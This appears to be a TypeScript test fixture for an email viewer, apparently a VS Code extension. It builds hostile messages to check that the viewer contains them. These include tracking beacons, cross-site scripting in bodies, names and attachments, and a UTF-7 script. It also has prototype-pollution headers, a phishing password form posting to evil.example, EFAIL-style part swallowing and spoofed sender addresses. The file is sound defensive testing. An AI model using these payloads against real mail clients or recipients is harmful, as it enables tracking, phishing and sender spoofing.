import { compose } from '../servers/fixtures/mail.ts';
import { hostileMails } from '../webview/fixtures/hostileMails.ts';

/** A message that attacks its reader, and what has to be seen of it. */
export interface Attack {
  /** T loading and tracking, X scripts, D deception, N false names; unique. */
  readonly label: string;
  readonly source: Buffer;
  /** Texts of the header and its notices that must be there. */
  readonly shows?: readonly (string | RegExp)[];
  /** What no text of the header may hold. */
  readonly hides?: RegExp;
  /** Elements that must not be in the mail's frame. */
  readonly without?: string;
  /** It tries to cover what is not its own. */
  readonly covers?: true;
}

interface Lines {
  readonly subject?: string;
  readonly from?: string;
  readonly headers?: readonly string[];
  readonly html?: string;
  readonly text?: string;
  /** A whole body with its own Content-Type among the headers. */
  readonly body?: string;
}

/** All attacks; `aim` puts the address of the listening server into them. */
export function attacks(aim: (text: string) => string): Attack[] {
  const fromTables = hostileMails.map(({ name, html }): Attack => {
    return { label: name, source: mail(name, { html: aim(html) }) };
  });
  return [...fromTables, ...wholeMessages(aim)];
}

function mail(label: string, { headers = [], html, text, body, ...lines }: Lines): Buffer {
  const type = html === undefined ? 'text/plain' : 'text/html';
  return compose({
    subject: label,
    ...lines,
    headers: [...headers, ...(body === undefined ? [`Content-Type: ${type}; charset=utf-8`] : [])],
    body: body ?? html ?? text ?? 'Words.',
  });
}

/** Parts, each its headers and its body, between boundaries. */
function parts(...all: readonly (readonly [string, string])[]): string {
  const each = all.map(([headers, body]) => `--b\r\n${headers}\r\n\r\n${body}\r\n`);
  return `${each.join('')}--b--\r\n`;
}

function multipart(kind: string): string {
  return `Content-Type: multipart/${kind}; boundary=b`;
}

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><image href="BEACON/in.svg"/></svg>';

function wholeMessages(aim: (text: string) => string): Attack[] {
  const attack = (
    label: string,
    lines: Lines,
    more: Omit<Attack, 'label' | 'source'> = {},
  ): Attack => ({
    label,
    source: mail(label, lines),
    ...more,
  });
  return [
    attack('T12 a drawing by Content-ID', {
      headers: [multipart('related')],
      body: parts(
        [
          'Content-Type: text/html',
          aim('<img src="cid:d"><link rel=stylesheet href="cid:s">Words.'),
        ],
        ['Content-Type: image/svg+xml\r\nContent-ID: <d>', aim(svg)],
        ['Content-Type: text/css\r\nContent-ID: <s>', aim('body{background:url(BEACON/cid.css)}')],
      ),
    }),
    attack('T14 receipts that are asked for', {
      headers: [
        'Disposition-Notification-To: spy@evil.example',
        'Return-Receipt-To: spy@evil.example',
      ],
    }),
    attack('X7 markup in plain text', {
      text: aim('<img src="BEACON/plain"> <script>1</script> https://ok.example/"onmouseover="x'),
    }),
    attack('X8 markup in names', {
      from: aim('"<img src=BEACON/name onerror=alert(1)>" <a@x.example>'),
      headers: [multipart('mixed')],
      body: parts(
        ['Content-Type: text/plain', 'Words.'],
        [
          aim(
            'Content-Type: text/plain; name="<img src=BEACON/file>.txt"\r\nContent-Disposition: attachment',
          ),
          'File.',
        ],
      ),
    }),
    attack('X9 documents as attachments', {
      headers: [multipart('mixed')],
      body: parts(
        ['Content-Type: text/plain', 'Words.'],
        [
          'Content-Type: text/html; name=a.html\r\nContent-Disposition: attachment',
          aim('<img src="BEACON/att">'),
        ],
        ['Content-Type: image/svg+xml; name=a.svg', aim(svg)],
        [
          'Content-Type: text/calendar; method=REQUEST',
          aim(
            'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20260101T100000Z\r\nSUMMARY:<img src=BEACON/ics>\r\nDESCRIPTION:<img src=BEACON/ics2>\r\nX-ALT-DESC;FMTTYPE=text/html:<img src=BEACON/ics3>\r\nEND:VEVENT\r\nEND:VCALENDAR',
          ),
        ],
      ),
    }),
    attack('X10 names of prototypes', {
      headers: [
        '__proto__: polluted',
        'constructor: polluted',
        'Content-Type: text/plain; __proto__=polluted; charset=utf-8',
      ],
      body: 'Words.',
    }),
    attack('X13 markup in seven bits', {
      headers: ['Content-Type: text/html; charset=utf-7'],
      body: "+ADw-script+AD4-console.log('canary-was-here')+ADw-/script+AD4-",
    }),
    attack(
      'D1 a mail that covers everything',
      {
        html: '<div style="position:fixed;top:-300px;left:0;width:200vw;height:300vh;z-index:2147483647;background:red">covered</div>',
      },
      { covers: true },
    ),
    attack('D2 style for everybody', {
      html: '<style>:root,*{display:none!important}@page{margin:0}</style>Words.',
    }),
    attack(
      'D3 a form that asks for a password',
      {
        html: '<form action="https://evil.example"><input type=password><button>VS Code needs your password</button></form>Words.',
      },
      { without: 'form, input, button:not([class^="mail-"])' },
    ),
    attack('D10 a part that swallows the next', {
      headers: [multipart('mixed')],
      body: parts(
        ['Content-Type: text/html', aim('<img src="BEACON/efail?')],
        ['Content-Type: text/plain', 'Secret words.'],
        ['Content-Type: text/html', '">After.'],
      ),
    }),
    attack('D11 two sides', {
      headers: [multipart('alternative')],
      body: parts(
        ['Content-Type: text/plain', 'All is well.'],
        ['Content-Type: text/html', '<p>Pay now.</p>'],
      ),
    }),
    ...falseNames(attack),
  ];
}

type Make = (label: string, lines: Lines, more?: Omit<Attack, 'label' | 'source'>) => Attack;

function falseNames(attack: Make): Attack[] {
  return [
    attack(
      'N1 an address inside encoded words',
      { from: '=?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3Y=?==?utf-8?Q?=00?=@mailsploit.example' },
      { shows: ['mailsploit.example'], hides: /\0/ },
    ),
    attack(
      'N2 line ends in a name',
      { from: '=?utf-8?Q?BEGIN_/_potus=40house=2Eexample=0A=00?= <real@evil.example>' },
      { shows: ['<real@evil.example>'], hides: /[\0]/ },
    ),
    attack(
      'N3 an address as a name',
      { from: '"ceo@bank.example" <x@evil.example>' },
      { shows: ['<x@evil.example>', /ceo@bank\.example/] },
    ),
    attack(
      'N4 two senders',
      { from: 'A <a@one.example>, B <b@two.example>' },
      { shows: ['<a@one.example>', '<b@two.example>'] },
    ),
    attack(
      'N5 a group that is none',
      {
        from: '"Someone" <valid@example.net>:<attacker@example.org>',
      },
      { shows: ['attacker@example.org'] },
    ),
    attack(
      'N6 an address in quotes',
      { from: '"ceo@bank.example"@evil.example' },
      { shows: ['"ceo@bank.example"@evil.example'] },
    ),
    attack(
      'N7 a name that turns round',
      { from: '=?utf-8?Q?=E2=80=AEelpmaxe=E2=80=AC?= <x@evil.example>' },
      { shows: ['<x@evil.example>'], hides: /[\u202a-\u202e\u2066-\u2069]/ },
    ),
    attack('N11 a date that is none', { headers: ['Date: Fri, 99 Foo 20266 99:99'] }),
  ];
}
